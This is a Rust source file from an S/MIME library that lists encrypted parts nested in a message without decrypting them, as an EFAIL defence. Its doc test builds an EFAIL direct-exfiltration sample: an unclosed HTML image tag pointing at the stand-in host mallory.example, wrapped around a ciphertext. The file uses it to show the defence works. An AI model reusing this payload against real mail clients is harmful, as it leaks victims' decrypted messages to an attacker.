//! Encrypted parts nested inside a message (EFAIL, RFC 8551 §6; REQUIREMENTS.md §2
//! row 4): found, listed, never decrypted.
//!
//! The reader decrypts only the message itself and what its own whole-message layers
//! enclose. An encrypted entity anywhere else — a part of a multipart/mixed beside
//! attacker HTML (direct exfiltration), a captured ciphertext attached to an
//! attacker's mail (the decryption oracle), the content of a signed part inside an
//! unsigned multipart — stays encrypted: decrypting it in place would show the
//! victim's plaintext inside the attacker's message. Each one is listed as a
//! [`NestedPart`] so that the app can say "this message contains an encrypted part"
//! and, when the user asks, open it as a message of its own (a separate origin).
//!
//! The search parses the entity in memory, so it runs only on entities of at most
//! [`PARTIAL_SCAN_LIMIT`](super::PARTIAL_SCAN_LIMIT) bytes, and lists at most
//! [`MAX_NESTED_PARTS`] parts.

use mail_parser::{Message, PartType};

use crate::mime::{self, HeaderBlock, MAX_MIME_DEPTH, read_header_block};
use crate::oid;

use super::peek::part_content_type;

/// Encrypted parts listed per message; further ones are left encrypted and not listed
/// (each listed part holds a copy of its bytes; real mail has one or none).
pub const MAX_NESTED_PARTS: usize = 16;

/// An encrypted part found inside the message but not decrypted (EFAIL, RFC 8551 §6):
/// where it sits, its header fields and its bytes.
///
/// To open it when the user asks, hand [`entity`](NestedPart::entity) to
/// [`reader::open`](super::open) as a message of its own, and show the result apart
/// from the message it came in (a separate origin, never merged into it):
///
/// ```
/// use smime::cms::EnvelopeOptions;
/// use smime::trust::{Policy, TrustStore};
/// # mod sample { include!(concat!(env!("CARGO_MANIFEST_DIR"), "/examples/sample/mod.rs")); }
/// let bob = sample::bob()?;
/// // An attacker's message around a ciphertext meant for Bob.
/// let part = smime::mime::encrypt_message_bytes(
///     b"Content-Type: text/plain\r\n\r\nsecret\r\n",
///     &[bob.certificate().clone()],
///     &EnvelopeOptions::default(),
/// )?;
/// let mut msg = b"From: mallory@example.org\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n\
///     --b\r\nContent-Type: text/html\r\n\r\n<img src='http://mallory.example/?\r\n--b\r\n".to_vec();
/// msg.extend_from_slice(&part);
/// msg.extend_from_slice(b"\r\n--b--\r\n");
/// let (trust, policy, now) = (TrustStore::new(), Policy::email(), std::time::SystemTime::now());
///
/// let opened = smime::reader::open(&msg, &[&bob], &trust, &policy, now)?;
/// assert_eq!(opened.content(), &msg[..]); // shown as received: nothing decrypted
/// let nested = &opened.nested_encrypted_parts()[0];
/// assert_eq!(nested.path(), &[1]); // the second child of the root multipart
///
/// // The user asked to open it: a message of its own.
/// let alone = smime::reader::open(nested.entity(), &[&bob], &trust, &policy, now)?;
/// assert!(alone.content().ends_with(b"secret\r\n"));
/// # Ok::<(), smime::Error>(())
/// ```
#[derive(Debug, Clone)]
pub struct NestedPart {
    path: Vec<usize>,
    headers: HeaderBlock,
    entity: Vec<u8>,
}

impl NestedPart {
    /// The part as a whole entity (header fields and body, as they sit in the
    /// message), to open with [`reader::open`](super::open) when the user asks.
    pub(super) fn new(path: Vec<usize>, entity: Vec<u8>) -> NestedPart {
        let headers = read_header_block(&mut &entity[..]).unwrap_or_default();
        NestedPart {
            path,
            headers,
            entity,
        }
    }

    /// Where the part sits: child indices from the message's root entity. A multipart
    /// entity's children count from 0 (for multipart/signed, 0 is the signed content);
    /// an S/MIME layer the reader opened (decrypted or opaque-signed) has one child,
    /// 0, its content. So `[1]` is the second part of a multipart/mixed message and
    /// `[0, 1]` the second part of the multipart/mixed a multipart/signed message
    /// signs. [`OpenedMessage::content_path`](super::OpenedMessage::content_path) says
    /// where the content sits in the same terms.
    pub fn path(&self) -> &[usize] {
        &self.path
    }

    /// The part's header fields (its Content-Type says `application/pkcs7-mime` or
    /// similar): the decryption context an app may show or check.
    pub fn headers(&self) -> &HeaderBlock {
        &self.headers
    }

    /// The part as an entity: its header fields and body, byte for byte as received.
    pub fn entity(&self) -> &[u8] {
        &self.entity
    }
}

/// What the search of one multipart entity found.
#[derive(Default)]
pub(super) struct Found {
    /// The first signed part (multipart/signed, or `application/pkcs7-mime` whose CMS
    /// is not encrypted) to descend into (row 11): its path and bytes.
    pub(super) signed: Option<(Vec<usize>, Vec<u8>)>,
    /// The encrypted parts, in document order.
    pub(super) encrypted: Vec<NestedPart>,
}

/// Searches the multipart `entity` (whose path from the message root is `base`) for
/// encrypted parts, at most `room` of them, and — when `find_signed` — for the first
/// signed part. Attached messages (`message/rfc822`) are not searched: what they hold
/// is another message's. A multipart/signed that is not descended into is searched.
pub(super) fn search(entity: &[u8], base: &[usize], find_signed: bool, room: usize) -> Found {
    let mut found = Found::default();
    let Some(msg) = mime::parse_message(entity) else {
        return found;
    };
    let mut search = Search {
        msg: &msg,
        entity,
        find_signed,
        room,
        found: &mut found,
    };
    let mut path = base.to_vec();
    search.children(0, &mut path, 0);
    found
}

struct Search<'a, 'm> {
    msg: &'a Message<'m>,
    entity: &'a [u8],
    find_signed: bool,
    room: usize,
    found: &'a mut Found,
}

impl Search<'_, '_> {
    /// Visits the children of part `id` (a multipart), `path` being its path.
    fn children(&mut self, id: usize, path: &mut Vec<usize>, depth: usize) {
        let Some(PartType::Multipart(children)) = self.msg.parts.get(id).map(|p| &p.body) else {
            return;
        };
        if depth >= MAX_MIME_DEPTH {
            return;
        }
        for (i, child) in children.iter().enumerate() {
            path.push(i);
            self.part(*child as usize, path, depth + 1);
            path.pop();
        }
    }

    fn part(&mut self, id: usize, path: &mut Vec<usize>, depth: usize) {
        let Some(part) = self.msg.parts.get(id) else {
            return;
        };
        let offset = |o: u32| usize::try_from(o).ok();
        let (Some(start), Some(body), Some(end)) = (
            offset(part.raw_header_offset()),
            offset(part.raw_body_offset()),
            offset(part.raw_end_offset()),
        ) else {
            return;
        };
        let (Some(bytes), Some(body)) = (self.entity.get(start..end), self.entity.get(body..end))
        else {
            return;
        };
        let headers = read_header_block(&mut &bytes[..]).unwrap_or_default();
        let ct = headers.content_type().ok().flatten();
        let mime_type = ct.as_ref().map(|c| c.mime_type()).unwrap_or_default();
        let wants_signed = self.find_signed && self.found.signed.is_none();
        if mime_type == "multipart/signed" && wants_signed {
            self.found.signed = Some((path.clone(), bytes.to_vec()));
            return;
        }
        if matches!(part.body, PartType::Multipart(_)) {
            self.children(id, path, depth);
            return;
        }
        if mime::smime_kind(&headers).is_none() {
            return;
        }
        // The CMS says what the part is; its smime-type parameter is only a hint.
        let content_type = part_content_type(body, &headers.transfer_encoding());
        if content_type == Some(oid::ENVELOPED_DATA)
            || content_type == Some(oid::AUTH_ENVELOPED_DATA)
        {
            if self.found.encrypted.len() < self.room {
                self.found
                    .encrypted
                    .push(NestedPart::new(path.clone(), bytes.to_vec()));
            }
        } else if wants_signed
            && matches!(
                mime_type,
                "application/pkcs7-mime" | "application/x-pkcs7-mime"
            )
        {
            // Opaque signed-data, certificates, or CMS that does not parse: opened
            // (and judged or refused) as before.
            self.found.signed = Some((path.clone(), bytes.to_vec()));
        }
    }
}
